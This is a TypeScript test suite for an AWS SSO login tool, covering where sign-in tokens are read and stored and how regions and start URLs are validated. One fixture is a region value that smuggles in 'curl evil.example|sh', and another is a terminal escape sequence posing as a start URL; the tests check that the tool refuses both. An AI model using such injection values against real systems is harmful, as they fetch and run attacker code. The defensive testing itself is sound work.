import { describe, expect, test } from "bun:test";
import { ownTokenPath, portals, storeImportedToken } from "../../src/sso/own-token-cache.ts";
import type { PortalChoice } from "../../src/sso/portal-choice.ts";
import { openTokenLocation } from "../../src/sso/token-location.ts";
import { failureOf } from "../support/failure.ts";
import { fakeSystem } from "../support/fake-system.ts";
import { memoryFiles } from "../support/memory-files.ts";

const startUrl = "https://d-1234567890.awsapps.com/start";
const folder = "/home/me/.aws-login";
const token = { accessToken: "t", expiresAt: "2030-01-31T13:00:00Z", startUrl, region: "eu-west-1" };
const cli = {
  kind: "cli",
  startUrl,
  region: "eu-west-1",
  sessionName: "corp",
  scopes: ["a"],
  loginOption: "--profile p",
} as const satisfies PortalChoice;

interface Setup {
  readonly files?: ReturnType<typeof memoryFiles>;
  readonly home?: string | undefined;
  readonly stdin?: string;
  readonly nrt?: boolean;
}

function open(choice: PortalChoice, setup: Setup = {}) {
  const { files = memoryFiles(), home = "/home/me", stdin = "", nrt = false } = setup;
  const system = fakeSystem({ instead: { ...files, readStdin: async () => stdin } });
  return { system, place: openTokenLocation(choice, { system, home, nrt }) };
}

describe("a sign-in shared with the AWS CLI", () => {
  test("openTokenLocation() asks for the scopes of the session, and names the command that signs in", async () => {
    const place = await open(cli).place;
    expect(place).toMatchObject({
      startUrl,
      region: "eu-west-1",
      scopes: ["a"],
      legacy: false,
      optional: false,
    });
    expect(place.signInHint).toBe("sign in with: aws-login login --profile p");
    expect(place.store.sharedName).toStartWith("/home/me/.aws/sso/cache/");
  });

  test("openTokenLocation() asks for no scopes in a legacy sign-in, as the AWS CLI", async () => {
    expect(await open({ ...cli, sessionName: undefined, scopes: undefined }).place).toMatchObject({
      scopes: [],
      legacy: true,
    });
  });

  test("openTokenLocation() keeps a client without scopes out of the shared file", async () => {
    const files = memoryFiles();
    const { scopes, store } = await open(cli, { files, nrt: true }).place;
    await store.writeRegistration("device", { clientId: "id", clientSecret: "s", expiresAt: "x" });
    expect([scopes, files.files.size, await store.readRegistration("device")]).toEqual([[], 0, undefined]);
    await store.removeRegistration("device");
    expect(files.log).toEqual([]);
  });
});

describe("the own cache", () => {
  test("openTokenLocation() takes the portal used last, and the region of its token", async () => {
    const files = memoryFiles();
    await storeImportedToken(files, folder, "https://other.awsapps.com/start", token, {});
    await storeImportedToken(files, folder, startUrl, token, {});
    const { place } = open({ kind: "own", startUrl: undefined, region: undefined }, { files });
    expect(await place).toMatchObject({ startUrl, region: "eu-west-1", optional: false });
    expect((await place).signInHint).toBe(
      `sign in with: aws-login login --start-url ${startUrl} --sso-region eu-west-1`,
    );
    expect(files.log).toContain(`check ${folder}`);
  });

  test("openTokenLocation() remembers the portal of a new sign-in", async () => {
    const files = memoryFiles();
    await (await open({ kind: "own", startUrl, region: undefined }, { files }).place).signedIn();
    expect(await portals(files, folder)).toEqual([startUrl]);
  });

  test("openTokenLocation() needs a person when no portal was ever used", async () => {
    const failure = await failureOf(
      () => open({ kind: "own", startUrl: undefined, region: undefined }).place,
    );
    expect(failure.kind).toBe("sign-in-needed");
    expect(failure.hints.join()).toContain("importcache");
  });

  test("openTokenLocation() refuses another region than the stored one", async () => {
    const files = memoryFiles();
    await storeImportedToken(files, folder, startUrl, token, {});
    const { place } = open({ kind: "own", startUrl, region: "us-east-1" }, { files });
    expect((await failureOf(() => place)).kind).toBe("usage");
    const same = open({ kind: "own", startUrl, region: "eu-west-1" }, { files });
    expect((await same.place).region).toBe("eu-west-1");
  });
});

describe("a token that was given", () => {
  test("openTokenLocation() reads it from stdin when told to, without its line end", async () => {
    const choice = { kind: "token", token: "-", startUrl: undefined, region: "eu-west-1" } as const;
    const place = await open(choice, { stdin: "t\n" }).place;
    expect((await place.store.readToken())?.accessToken).toBe("t");
    expect([place.optional, place.store.sharedName]).toEqual([true, undefined]);
    expect((await failureOf(() => open(choice, { stdin: "\n" }).place)).message).toContain(
      "no token on stdin",
    );
  });

  test("openTokenLocation() believes the file about its portal, and warns when its refresh token is spent", async () => {
    const files = memoryFiles({ "/t.json": JSON.stringify({ ...token, refreshToken: "r1" }) });
    const choice = { kind: "file", path: "file:///t.json", startUrl: undefined, region: undefined } as const;
    const { system, place } = open(choice, { files });
    const { store, region, startUrl: own } = await place;
    expect([region, own]).toEqual(["eu-west-1", startUrl]);
    await store.writeToken({ ...token, refreshToken: "r1" });
    expect(system.stderrLines).toEqual([]);
    await store.writeToken({ ...token, refreshToken: "r2" });
    expect(system.stderrLines).toHaveLength(1);
    expect(system.stderrLines[0]).toStartWith(
      "aws-login: warning: the refresh token in /t.json is spent now",
    );
    expect(files.log).toEqual([]);
  });

  test("openTokenLocation() does not show a start URL of a file that is none", async () => {
    const files = memoryFiles({ "/t.json": JSON.stringify({ ...token, startUrl: "\u001b[2J" }) });
    const choice = { kind: "file", path: "/t.json", startUrl: undefined, region: undefined } as const;
    expect((await open(choice, { files }).place).name).toBe("/t.json");
  });
});

describe("a region that is none", () => {
  const crafted = { ...token, region: "us-east-1; curl evil.example|sh" };
  const message = (path: string) => `cannot use the region of the ${path}: `;

  test("openTokenLocation() refuses it in a token file, which it names", async () => {
    const files = memoryFiles({ "/t.json": JSON.stringify(crafted) });
    const choice = { kind: "file", path: "/t.json", startUrl: undefined, region: undefined } as const;
    const failure = await failureOf(() => open(choice, { files }).place);
    expect(failure.message).toStartWith(message("token in /t.json"));
  });

  test("openTokenLocation() refuses it in the own cache, and names the file", async () => {
    const files = memoryFiles();
    await storeImportedToken(files, folder, startUrl, crafted, {});
    const failure = await failureOf(
      () => open({ kind: "own", startUrl, region: undefined }, { files }).place,
    );
    expect(failure.message).toStartWith(message(`sign-in in ${ownTokenPath(folder, startUrl)}`));
  });
});

test("openTokenLocation() keeps nothing of a sign-in that is not to be kept", async () => {
  const place = await open({ kind: "unkept", startUrl, region: "eu-west-1" }).place;
  expect(await place.store.readToken()).toBeUndefined();
  expect(place.store.sharedName).toBeUndefined();
  expect(place.signInHint).toContain("--use-cache");
});

test("openTokenLocation() says so where there is no home directory", async () => {
  const system = fakeSystem({ instead: memoryFiles() });
  const own = { kind: "own", startUrl, region: undefined } as const;
  for (const [choice, hint] of [
    [cli, "set HOME"],
    [own, "set HOME, or AWS_LOGIN_HOME"],
  ] as const) {
    const failure = await failureOf(() => openTokenLocation(choice, { system, home: undefined, nrt: false }));
    expect(failure.hints).toEqual([hint]);
  }
});
